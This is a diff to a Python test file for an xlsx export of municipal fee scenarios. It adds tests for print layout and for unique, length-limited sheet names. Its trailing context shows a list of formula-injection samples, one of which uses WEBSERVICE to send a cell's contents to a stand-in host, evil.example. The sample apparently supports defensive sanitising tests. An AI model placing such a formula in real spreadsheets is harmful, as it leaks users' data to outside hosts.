@@ -651,6 +651,54 @@ def test_sheet_title():
     assert len(xlsx.sheet_title("x" * 40)) == 31
 
 
+def test_every_sheet_is_set_up_to_print(tmp_path):
+    (tmp_path / "w.xlsx").write_bytes(xlsx.workbook(FEES, _scenarios()))
+    wb = load_workbook(tmp_path / "w.xlsx")  # read back: what a spreadsheet program sees
+    assert len(wb.sheetnames) == 4
+    for ws in wb:
+        setup = ws.page_setup
+        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
+        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
+        assert setup.paperSize == 9  # A4 in the xlsx format
+        # the heading row: row 3 on the comparison and year sheets, row 4 on a scenario's
+        row = 4 if ws.title in ("forslag-2025", "alt") else 3
+        assert ws.print_title_rows == f"${row}:${row}", ws.title  # as read back
+        assert ws[f"A{row}"].value == "Kommun"
+        assert ws.oddFooter.left.text == "&A"  # the sheet's name
+        assert ws.oddFooter.right.text == "Sida &P av &N"
+
+
+def test_scenario_names_sharing_their_first_31_characters_get_sheets_of_their_own(tmp_path):
+    first = "socialchefer-15-mars-med-uppräkning-a"  # 37 characters
+    second = "socialchefer-15-mars-med-uppräkning-b"  # the same first 36
+    assert first[:31] == second[:31]
+    fees_ = FEES.assign(scenario=FEES["scenario"].replace({"forslag-2025": first, "alt": second}))
+    data = xlsx.workbook(
+        fees_, [Scenario(first, "a.yaml", "A.", {}), Scenario(second, "b", "B.", {})]
+    )
+    (tmp_path / "w.xlsx").write_bytes(data)
+    wb = load_workbook(tmp_path / "w.xlsx")
+    # 31 characters at most: 27 of the name, then " (1)" and " (2)"
+    assert wb.sheetnames[2:] == [
+        "socialchefer-15-mars-med-up (1)",
+        "socialchefer-15-mars-med-up (2)",
+    ]
+    assert all(len(n) <= 31 for n in wb.sheetnames)
+    # the full name in A1 of each
+    assert wb.sheetnames[2:] and wb[wb.sheetnames[2]]["A1"].value.startswith(f"Scenario {first}:")
+    assert wb[wb.sheetnames[3]]["A1"].value.startswith(f"Scenario {second}:")
+
+
+def test_unique_sheet_title_compares_without_case_and_keeps_short_names():
+    taken: set[str] = set()
+    assert xlsx.unique_sheet_title("Jämförelse", taken) == "Jämförelse"
+    assert xlsx.unique_sheet_title("jämförelse", taken) == "jämförelse (1)"  # Excel: same name
+    assert xlsx.unique_sheet_title("a/b", taken) == "a-b"
+    assert xlsx.unique_sheet_title("'citat'", taken) == "citat"  # no apostrophe at the ends
+    assert xlsx.unique_sheet_title("x" * 31, taken) == "x" * 31  # exactly 31: kept
+    assert xlsx.unique_sheet_title("x" * 32, taken) == "x" * 27 + " (1)"
+
+
 FORMULAS = [
     '=WEBSERVICE("https://evil.example/?"&A1)',
     "+1+1",
